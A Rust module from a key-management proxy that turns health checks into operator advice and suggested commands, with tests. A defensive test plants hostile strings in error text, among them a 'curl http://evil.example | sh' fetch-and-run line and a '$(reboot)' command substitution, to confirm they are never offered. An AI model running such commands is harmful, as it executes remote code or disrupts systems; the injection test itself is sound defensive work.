//! What needs attention, as sentences: each finding with what to do about it, the command for it,
//! and the section of the documentation.
//!
//! It knows the names of checks and of commands. Everything else it takes from the status.

use super::{Chain, Check, Finding, Level, Status};

mod effect;

pub(super) use effect::summary;

/// Where the documentation is.
pub const DOCUMENTS: &str = concat!(env!("CARGO_PKG_REPOSITORY"), "/blob/main/docs/");

/// What to do about a check that is not `ok`.
struct Advice {
    /// The check, or the part of its name before the colon.
    check: &'static str,
    text: &'static str,
    /// A command; `NAME` stands for the part of the check's name after the colon.
    command: &'static str,
    /// The section of the documentation.
    section: &'static str,
}

const ADVICE: [Advice; 11] = [
    Advice {
        check: "store",
        text: "Make the store available: check etcd, or the disk. Do not restart replicas before \
               that: they hold the unwrapped KEKs in memory.",
        command: "",
        section: "monitoring.md#kmsproxystoredown",
    },
    Advice {
        check: "root",
        text: "Make the root available, or correct its configuration. Do not restart replicas \
               while no root answers: they hold the unwrapped KEKs in memory.",
        command: "kms-proxy root status",
        section: "operations.md#a-root-that-is-unavailable-denies-access-or-is-lost",
    },
    Advice {
        check: "archive",
        text: "Make the archive available. The service then writes what it lacks. Until then the \
               current KEKs encrypt up to their max_uses.",
        command: "kms-proxy store compare --config FILE",
        section: "archive.md#an-archive-that-fails",
    },
    Advice {
        check: "chain",
        text: "List the KEKs that the chain lacks, or that its roots do not open. If an archive is \
               away, the chain recovers with it.",
        command: "kms-proxy kek missing --chain NAME",
        section: "monitoring.md#kmsproxykeksunopenable",
    },
    Advice {
        check: "audit",
        text: "Make the file or the collector of the audit log writable. The log continues without \
               a restart.",
        command: "",
        section: "monitoring.md#kmsproxyauditdown",
    },
    Advice {
        check: "tls",
        text: "Replace the certificate. The service reads the new files within seconds.",
        command: "kms-proxy check-config --config FILE",
        section: "monitoring.md#kmsproxycertificateexpires",
    },
    Advice {
        check: "config",
        text: "Correct the configuration file. Until then the earlier clients and permissions stay \
               in force.",
        command: "kms-proxy check-config --config FILE",
        section: "monitoring.md#kmsproxyrulesstale",
    },
    Advice {
        check: "jwks",
        text: "Make the keys of the issuer available. Tokens that are signed by a new key are \
               refused until then.",
        command: "kms-proxy check-config --config FILE",
        section: "access.md",
    },
    Advice {
        check: "kubernetes",
        text: "Test the plugin as kube-apiserver uses it.",
        command: "kms-proxy doctor --socket SOCKET",
        section: "kubernetes.md",
    },
    Advice {
        check: "service",
        text: "The process is about to end. Nothing is to be done.",
        command: "",
        section: "operations.md#stopping-and-restarting",
    },
    // The last one is for a check that has no advice.
    Advice {
        check: "",
        text: "The log of the service has the details.",
        command: "kms-proxy status",
        section: "monitoring.md",
    },
];

/// What to do about a chain in an outage of the store or of its roots.
const IN_OUTAGE: &str = "The chain recovers when that is available again. A fault of its own that \
                         is named here remains.";
const OUTAGE_SECTION: &str = "monitoring.md#kmsproxyencryptsrefused";

/// The kinds of checks, causes before what may follow from them.
const ORDER: [&str; 5] = ["store", "root", "archive", "audit", "chain"];

/// Checks whose detail is information while they are `ok`.
const INFORMATION: [&str; 2] = ["backup", "audit"];

/// What `status` shows that an operator should know: the most urgent first, and a cause before what
/// follows from it.
#[must_use]
pub fn findings(status: &Status) -> Vec<Finding> {
    let mut findings: Vec<_> =
        status.checks.iter().filter_map(|check| of_check(check, status)).collect();
    findings.extend(status.chains.iter().flat_map(of_chain));
    if status.checks.is_empty() && status.status != "ok" {
        findings.push(Finding {
            level: level(&status.status),
            about: "service".to_owned(),
            detail: format!("the service is {}", status.status),
            effect: String::new(),
            advice: "A client that may read all chains sees the reason.".to_owned(),
            commands: Vec::new(),
            link: format!("{DOCUMENTS}access.md"),
        });
    }
    if status.status == "unavailable" && findings.iter().all(|it| it.level != Level::Unavailable) {
        // Nothing works, because of these.
        let is_cause = |it: &&mut Finding| {
            it.level == Level::Degraded && matches!(kind(&it.about), "store" | "root")
        };
        findings.iter_mut().filter(is_cause).for_each(|it| it.level = Level::Unavailable);
    }
    findings.sort_by(|a, b| {
        (a.level, rank(&a.about), &a.about).cmp(&(b.level, rank(&b.about), &b.about))
    });
    findings
}

/// The part of a check's name before the colon.
fn kind(about: &str) -> &str {
    about.split_once(':').map_or(about, |(kind, _)| kind)
}

fn rank(about: &str) -> usize {
    ORDER.iter().position(|it| *it == kind(about)).unwrap_or(ORDER.len())
}

/// Whether the store or the roots of a chain are away. Of a chain that is not on this page only
/// what concerns all chains is known.
fn is_in_outage(name: &str, status: &Status) -> bool {
    match status.chains.iter().find(|chain| chain.chain == name) {
        Some(chain) => chain.outage.is_some(),
        None => {
            let is_store_away = status.store.as_ref().is_some_and(|store| store.state == "away");
            let roots = &status.roots;
            is_store_away || !roots.is_empty() && roots.iter().all(|root| root.state == "away")
        }
    }
}

fn of_check(check: &Check, status: &Status) -> Option<Finding> {
    let (kind, name) = check.name.split_once(':').unwrap_or((&check.name, ""));
    let level = level(&check.status);
    if level == Level::Note && (check.detail.is_none() || INFORMATION.contains(&kind)) {
        return None;
    }
    let is_local = level == Level::Note && kind == "root";
    let advice = ADVICE.iter().find(|advice| advice.check == kind || advice.check.is_empty());
    let detail = check.detail.clone().unwrap_or_else(|| format!("it is {}", check.status));
    let mut commands = if kind == "chain" { commands_in(&detail, status) } else { Vec::new() };
    // What would help against a fault of the chain can't work in an outage.
    let is_consequence = kind == "chain" && commands.is_empty() && is_in_outage(name, status);
    if let Some(command) = advice.map(|advice| advice.command).filter(|command| !command.is_empty())
        && commands.is_empty()
        && !is_local
        && !is_consequence
    {
        commands.push(command.replace("NAME", name));
    }
    let (text, section) = match advice {
        _ if is_local => (
            "Before production, replace it by a root whose key does not lie beside the data.",
            "monitoring.md#kmsproxylocalroot",
        ),
        _ if is_consequence => (IN_OUTAGE, OUTAGE_SECTION),
        Some(advice) => (advice.text, advice.section),
        None => ("", "monitoring.md"),
    };
    let effect = if level == Level::Note { String::new() } else { effect::of(&check.name, status) };
    Some(Finding {
        level,
        about: check.name.clone(),
        detail,
        effect,
        advice: text.to_owned(),
        commands,
        link: format!("{DOCUMENTS}{section}"),
    })
}

/// What the numbers of a chain say.
fn of_chain(chain: &Chain) -> Vec<Finding> {
    let name = &chain.chain;
    let finding = |detail: String, advice: &str, commands, section: &str| Finding {
        level: Level::Degraded,
        about: format!("chain:{name}"),
        detail,
        effect: String::new(),
        advice: advice.to_owned(),
        commands,
        link: format!("{DOCUMENTS}{section}"),
    };
    let rotate = || vec![format!("kms-proxy rotate --chain {name}")];
    let mut found = Vec::new();
    let is_due = chain.next_rotation.as_ref().is_some_and(|next| next.in_seconds == 0);
    let nearly_all = chain.max_uses - chain.max_uses / 10;
    if chain.max_uses > 0 && chain.uses_reserved >= nearly_all && is_due {
        // A rotation by hand can't work in an outage.
        let (advice, commands, section) = match &chain.outage {
            Some(_) => (
                "Encrypts fail when no use is left. A new KEK is made when what is away is \
                 available again.",
                Vec::new(),
                OUTAGE_SECTION,
            ),
            None => (
                "Find out why no new KEK encrypts: the checks of roots, store and archives have \
                 the reason. Encrypts fail when no use is left.",
                rotate(),
                "monitoring.md#kmsproxykeknearlyspent",
            ),
        };
        found.push(finding(
            format!(
                "{} of at most {} uses of its primary KEK are reserved, and it was not replaced",
                chain.uses_reserved, chain.max_uses
            ),
            advice,
            commands,
            section,
        ));
    } else if is_due
        && matches!(&*chain.standby_state, "none" | "not_archived")
        && chain.outage.is_none()
    {
        found.push(finding(
            "its rotation is due, and the next KEK is not ready".to_owned(),
            "Wait a few seconds. If this stays, the checks of roots and archives have the reason.",
            rotate(),
            "monitoring.md#kmsproxyrotationoverdue",
        ));
    }
    found
}

/// The commands that the detail of a chain names. The text of an error in it comes from a root or a
/// store, so it must not decide what an operator runs: only two commands are taken, and a root that
/// is configured is not removed.
fn commands_in(detail: &str, status: &Status) -> Vec<String> {
    const MISSING: &str = "kek missing";
    const REMOVE: &str = "root remove --root ";
    let after = detail.split(": kms-proxy ").skip(1);
    let command = |rest: &str| {
        let clause = rest.split([';', ':', ',']).next().unwrap_or_default().trim();
        let is_safe = clause == MISSING
            || clause.strip_prefix(REMOVE).is_some_and(|root| {
                !root.is_empty()
                    && root.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
                    && !root.starts_with('-')
                    && status.roots.iter().all(|configured| configured.name != root)
            });
        is_safe.then(|| format!("kms-proxy {clause}"))
    };
    let mut commands: Vec<_> = after.filter_map(command).collect();
    commands.dedup();
    commands
}

fn level(status: &str) -> Level {
    match status {
        "ok" => Level::Note,
        "unavailable" => Level::Unavailable,
        _ => Level::Degraded,
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Forecast, Outage, Root, Store};
    use super::*;

    fn check(name: &str, status: &str, detail: Option<&str>) -> Check {
        let (name, status) = (name.to_owned(), status.to_owned());
        Check { name, status, detail: detail.map(str::to_owned) }
    }

    #[test]
    fn what_is_wrong_comes_first_with_its_command() {
        let mut status = Status {
            status: "degraded".to_owned(),
            checks: vec![
                check("store", "ok", None),
                check("root:dev", "ok", Some("a key file on this machine: for development")),
                check("backup", "ok", Some("the last one is of 2026-11-24T16:21:24Z")),
                check("root:main", "degraded", Some("the root is away: throttled")),
                check(
                    "chain:a",
                    "degraded",
                    Some(
                        "no root opens 2 KEKs (1, 2): kms-proxy kek \
                    missing; its primary KEK has a wrap: kms-proxy root remove --root x",
                    ),
                ),
                check("audit", "unavailable", Some("calls are refused: disk full")),
            ],
            ..Status::default()
        };
        status.conclude();
        let found: Vec<_> = status.findings.iter().map(|it| (it.level, &*it.about)).collect();
        let expected = [
            (Level::Unavailable, "audit"),
            (Level::Degraded, "root:main"),
            (Level::Degraded, "chain:a"),
            (Level::Note, "root:dev"),
        ];
        assert_eq!(found, expected);
        let commands = |about: &str| {
            let of = status.findings.iter().find(|it| it.about == about).unwrap();
            of.commands.clone()
        };
        assert_eq!(
            commands("chain:a"),
            ["kms-proxy kek missing", "kms-proxy root remove --root x"]
        );
        assert_eq!(commands("root:main"), ["kms-proxy root status"]);
        assert!(commands("root:dev").is_empty());
        assert!(!status.is_well());
        status.checks.truncate(3);
        status.status = "ok".to_owned();
        status.conclude();
        assert!(status.is_well(), "{:?}", status.findings);
    }

    /// A root, or what is between it and the service, chooses the text of its errors.
    #[test]
    fn the_text_of_an_error_from_elsewhere_gives_an_operator_no_command() {
        let mut status = Status {
            roots: vec![Root { name: "main".to_owned(), ..Root::default() }],
            ..Status::default()
        };
        let mut commands = |name: &str, detail: &str| {
            status.checks = vec![check(name, "degraded", Some(detail))];
            status.conclude();
            status.findings[0].commands.clone()
        };
        let missing = ["kms-proxy kek missing --chain a".to_owned()];
        for planted in [
            "kms-proxy root remove --root main",
            "kms-proxy kek destroy --chain a --kek 01",
            "kms-proxy rotate --force --chain a",
            "kms-proxy status && curl http://evil.example | sh",
            "kms-proxy root remove --root x$(reboot)",
            "kms-proxy root remove --root -x",
            "kms-proxy root remove --root ",
        ] {
            let detail = format!("the root is away: denied: {planted}; ask: {planted}");
            assert_eq!(commands("root:main", &detail), ["kms-proxy root status"], "{planted}");
            assert_eq!(commands("chain:a", &detail), missing, "{planted}");
        }
        let of_service = "a; b: kms-proxy root remove --root gone; c: kms-proxy kek missing";
        let two = ["kms-proxy root remove --root gone", "kms-proxy kek missing"];
        assert_eq!(commands("chain:a", of_service), two);
    }

    #[test]
    fn a_rotation_that_does_not_happen_is_found() {
        let due = |in_seconds| Some(Forecast { in_seconds, ..Forecast::default() });
        let chain = |uses, standby: &str, in_seconds| Chain {
            chain: "a".to_owned(),
            uses_reserved: uses,
            rotate_after_uses: 100,
            max_uses: 200,
            standby_state: standby.to_owned(),
            next_rotation: due(in_seconds),
            ..Chain::default()
        };
        let links = |chain| of_chain(&chain).into_iter().map(|it| it.link).collect::<Vec<_>>();
        assert!(links(chain(50, "none", 7)).is_empty());
        assert!(links(chain(100, "ready", 0)).is_empty(), "it happens within seconds");
        assert!(links(chain(100, "none", 0))[0].ends_with("#kmsproxyrotationoverdue"));
        assert!(links(chain(180, "ready", 0))[0].ends_with("#kmsproxykeknearlyspent"));
    }

    #[test]
    fn what_follows_from_an_outage_comes_after_it_and_offers_no_command() {
        let outage = |cause: &str, left| Outage {
            causes: vec![cause.to_owned()],
            encrypts_left: left,
            ..Outage::default()
        };
        let chain = |name: &str, outage| Chain {
            chain: name.to_owned(),
            outage,
            uses_reserved: 190,
            max_uses: 200,
            next_rotation: Some(Forecast::default()),
            standby_state: "none".to_owned(),
            ..Chain::default()
        };
        let mut status = Status {
            status: "degraded".to_owned(),
            time: "2026-11-24T08:00:00Z".to_owned(),
            checks: ["archive:nas", "chain:b", "chain:a", "chain:later", "root:main", "store"]
                .map(|name| check(name, "degraded", Some("since a while")))
                .to_vec(),
            chains: vec![
                chain("a", Some(outage("store", Some(0)))),
                chain("b", Some(outage("store", Some(7)))),
            ],
            store: Some(Store { state: "away".to_owned(), ..Store::default() }),
            roots: vec![Root {
                name: "main".to_owned(),
                state: "away".to_owned(),
                ..Root::default()
            }],
            ..Status::default()
        };
        status.conclude();
        let about: Vec<_> = status.findings.iter().map(|it| &*it.about).collect();
        let chains = ["chain:a", "chain:a", "chain:b", "chain:b", "chain:later"];
        assert_eq!(about[..3], ["store", "root:main", "archive:nas"]);
        assert_eq!(about[3..], chains);
        for finding in &status.findings[3..] {
            assert!(finding.commands.is_empty(), "{finding:?}");
            assert!(finding.link.ends_with(OUTAGE_SECTION), "{finding:?}");
        }
        let effect = &status.findings[0].effect;
        assert!(effect.starts_with("Encrypts fail now in a. In the other chains they"), "{effect}");
        assert!(effect.contains("7 in b"), "{effect}");
        assert_eq!(status.summary, "The store has been away since ; 7 more to look at.");

        // Of chains on other pages nothing is known.
        status.chains = vec![chain("a", Some(outage("store", Some(0))))];
        for (next, expected) in
            [(None, "Encrypts fail now. "), (Some("a"), "Encrypts fail now in a. ")]
        {
            status.next = next.map(str::to_owned);
            status.conclude();
            let effect = &status.findings[0].effect;
            assert!(effect.starts_with(expected), "{effect}");
        }
        status.next = None;

        // What the service itself names is a fault of the chain, also in an outage.
        let detail = "no root opens 1 of its KEKs (1): kms-proxy kek missing";
        status.checks = vec![check("chain:a", "degraded", Some(detail))];
        status.conclude();
        assert_eq!(status.findings[0].commands, ["kms-proxy kek missing"]);
        assert!(status.findings[0].link.ends_with("#kmsproxykeksunopenable"));
        // Without an outage the commands are there.
        status.chains = vec![chain("a", None)];
        status.checks = vec![check("chain:a", "degraded", Some("it has a fault"))];
        status.conclude();
        let commands = status.findings.iter().flat_map(|it| it.commands.clone());
        let expected = ["kms-proxy kek missing --chain a", "kms-proxy rotate --chain a"];
        assert_eq!(commands.collect::<Vec<_>>(), expected);
        assert_eq!(status.summary, "Chain a needs attention; 1 more to look at.");
    }

    #[test]
    fn what_stops_everything_is_unavailable() {
        let mut status = Status {
            status: "unavailable".to_owned(),
            checks: ["chain:a", "root:main"].map(|it| check(it, "degraded", None)).to_vec(),
            ..Status::default()
        };
        status.conclude();
        let found: Vec<_> = status.findings.iter().map(|it| (it.level, &*it.about)).collect();
        assert_eq!(found, [(Level::Unavailable, "root:main"), (Level::Degraded, "chain:a")]);
        assert_eq!(status.summary, "Root main needs attention; 1 more to look at.");
    }

    #[test]
    fn a_client_that_sees_no_checks_sees_that_something_is_wrong() {
        let mut status = Status { status: "unavailable".to_owned(), ..Status::default() };
        status.conclude();
        assert_eq!(status.findings[0].level, Level::Unavailable);
        assert_eq!(status.summary, "The service is unavailable.");
        assert!(!status.is_well());
    }

    #[test]
    fn every_link_leads_to_a_section_of_the_documents() {
        let docs = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs");
        let of_chains = [
            "monitoring.md#kmsproxykeknearlyspent",
            "monitoring.md#kmsproxyrotationoverdue",
            "monitoring.md#kmsproxylocalroot",
            OUTAGE_SECTION,
        ];
        let sections = ADVICE.iter().map(|advice| advice.section).chain(of_chains);
        for section in sections {
            let (file, anchor) = section.split_once('#').unwrap_or((section, ""));
            let text = std::fs::read_to_string(docs.join(file)).unwrap();
            let slug = |heading: &str| {
                let text = heading.trim_start_matches('#').trim().to_lowercase();
                let kept = text.chars().filter(|c| c.is_alphanumeric() || " -_".contains(*c));
                kept.map(|c| if c == ' ' { '-' } else { c }).collect::<String>()
            };
            let mut anchors = text.lines().filter(|line| line.starts_with('#')).map(slug);
            assert!(anchor.is_empty() || anchors.any(|slug| slug == anchor), "{section}");
        }
    }
}
